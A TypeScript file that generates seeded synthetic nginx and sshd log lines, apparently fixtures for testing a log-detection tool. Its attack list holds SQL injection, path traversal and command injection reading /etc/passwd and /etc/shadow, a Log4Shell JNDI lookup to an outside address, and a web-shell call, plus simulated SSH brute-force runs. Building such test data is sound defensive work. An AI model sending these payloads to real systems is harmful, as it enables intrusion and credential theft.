// What do servers of 38 provinces write? Ordinary lines and attacks, drawn from a seed, and lines in which every field is hostile.

import { hostile, inLogField, inPath, kinds } from './hostile.ts'
import { HOSTILE_SOURCE, type Place } from './world.ts'

/** Numbers from 0 to 1 from a seed (mulberry32): the same lines at every run. */
export function createRandom(seed: number): () => number {
  let state = seed
  return () => {
    state = (state + 0x6d2b79f5) | 0
    let t = Math.imul(state ^ (state >>> 15), 1 | state)
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t
    return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296
  }
}

type Random = () => number
const pick = <T>(random: Random, values: readonly [T, ...T[]]): T =>
  values[Math.floor(random() * values.length)] ?? values[0]
const months = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'] as const
const two = (value: number): string => String(value).padStart(2, '0')

/** 27/Nov/2024:08:16:03 +0700. */
function nginxTime(at: number, hours: number): string {
  const local = new Date(at + hours * 3_600_000)
  const day = `${two(local.getUTCDate())}/${months[local.getUTCMonth()] ?? ''}/${local.getUTCFullYear()}`
  return `${day}:${local.toISOString().slice(11, 19)} +${two(hours)}00`
}

const agents = [
  'Mozilla/5.0 (Linux; Android 13; SM-A536E) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Mobile Safari/537.36',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1',
] as const
const paths = ['/', '/berita', '/dpt/cek', '/hasil', '/layanan', '/kontak', '/img/logo.png', '/css/app.css'] as const
const networks = ['36.66.', '114.124.', '180.250.', '103.10.'] as const
const badNetworks = ['203.0.113.', '198.51.100.', '192.0.2.'] as const
/** Few addresses do much: the square prefers small numbers. */
const badAddress = (random: Random): string => `${pick(random, badNetworks)}${1 + Math.floor(random() ** 2 * 90)}`
const byte = (random: Random): number => Math.floor(random() * 254) + 1

interface Request {
  readonly address: string
  readonly request: string
  readonly status: number
  readonly agent: string
  readonly referrer?: string
}

function nginx(at: number, hours: number, { address, request, status, agent, referrer = '-' }: Request): string {
  const bytes = 300 + (at % 40_000)
  return `${address} - - [${nginxTime(at, hours)}] "${request}" ${status} ${bytes} "${referrer}" "${agent}"`
}

const attacks = [
  'GET /berita?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--%20- HTTP/1.1',
  'GET /../../../../etc/passwd HTTP/1.1',
  'GET /cari?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1',
  'GET /?x=$%7Bjndi:ldap://203.0.113.66/a%7D HTTP/1.1',
  'GET /.env HTTP/1.1',
  'POST /wp-login.php HTTP/1.1',
  'POST /uploads/shell.php?cmd=id HTTP/1.1',
  'GET /index.php?page=php://filter/convert.base64-encode/resource=config HTTP/1.1',
  'GET /cgi-bin/test?x=;cat%20/etc/shadow HTTP/1.1',
] as const

/** A line of a web server: mostly visitors, now and then somebody with another mind. */
export function webLine(random: Random, place: Place, at: number, attackShare = 0.03): string {
  if (random() < attackShare)
    return nginx(at, place.zoneHours, {
      address: badAddress(random),
      request: pick(random, attacks),
      status: pick(random, [200, 403, 404, 500]),
      agent: pick(random, ['sqlmap/1.8', 'curl/8.5.0', 'Mozilla/5.0 zgrab/0.x']),
    })
  const status = random() < 0.06 ? pick(random, [404, 301, 500, 403]) : 200
  return nginx(at, place.zoneHours, {
    address: `${pick(random, networks)}${byte(random)}.${byte(random)}`,
    request: `GET ${pick(random, paths)} HTTP/1.1`,
    status,
    agent: pick(random, agents),
  })
}

/** An attack on a site of a region that answered with success: it scores high enough for every list. */
export function attackLine(address: string, at: number): string {
  const request = 'GET /berita?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--%20- HTTP/1.1'
  return nginx(at, 7, { address, request, status: 200, agent: 'sqlmap/1.8' })
}

/** A line of syslog with sshd: people at work, and guessing. */
export function hostLine(random: Random, place: Place, at: number, user = 'root'): string {
  const time = new Date(at).toISOString()
  const host = `srv-${place.code.replace('.', '-')}`
  const port = 1024 + Math.floor(random() * 60_000)
  return random() < 0.4
    ? `${time} ${host} sshd[${port}]: Failed password for ${user} from ${badAddress(random)} port ${port} ssh2`
    : `${time} ${host} sshd[${port}]: Accepted publickey for operator from 10.20.${byte(random)}.${byte(random)} port ${port} ssh2: ED25519 SHA256:0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5`
}

/** Guessing that works in the end, from one address. */
export function guessing(place: Place, at: number, address: string): string[] {
  const host = `srv-${place.code.replace('.', '-')}`
  const line = (i: number, what: string): string =>
    `${new Date(at + i * 400).toISOString()} ${host} sshd[${4000 + i}]: ${what} for root from ${address} port ${40_000 + i} ssh2`
  return [...Array.from({ length: 24 }, (_, i) => line(i, 'Failed password')), line(24, 'Accepted password')]
}

/** Every hostile string as path, agent, referrer, user, host name and free text, in formats that siaga recognises. */
export function hostileLines(at: number): { source: string; lines: string[] } {
  const time = new Date(at).toISOString()
  const lines = kinds.flatMap((kind, i) => {
    const text = hostile[kind]
    const field = inLogField(text)
    const address = `203.0.113.${200 + i}`
    return [
      nginx(at, 7, {
        address,
        request: `GET /${inPath(inLogField(text))}?q=${inPath(inLogField(text))}' UNION SELECT 1-- HTTP/1.1`,
        status: 200,
        agent: field,
        referrer: field,
      }),
      `${time} ${text.replaceAll(/\s/g, '_').slice(0, 200)} sshd[${700 + i}]: Failed password for invalid user ${text} from ${address} port 4242 ssh2`,
      `${time} app-${i} portal[${i}]: ${text}`,
      JSON.stringify({
        '@timestamp': time,
        message: text,
        user: { name: text },
        host: { name: text },
        source: { ip: address },
        url: { path: text },
        user_agent: { original: text },
        event: { action: text, category: ['web'] },
        process: { name: text, command_line: text },
        [text]: text,
      }),
    ]
  })
  return { source: HOSTILE_SOURCE, lines }
}
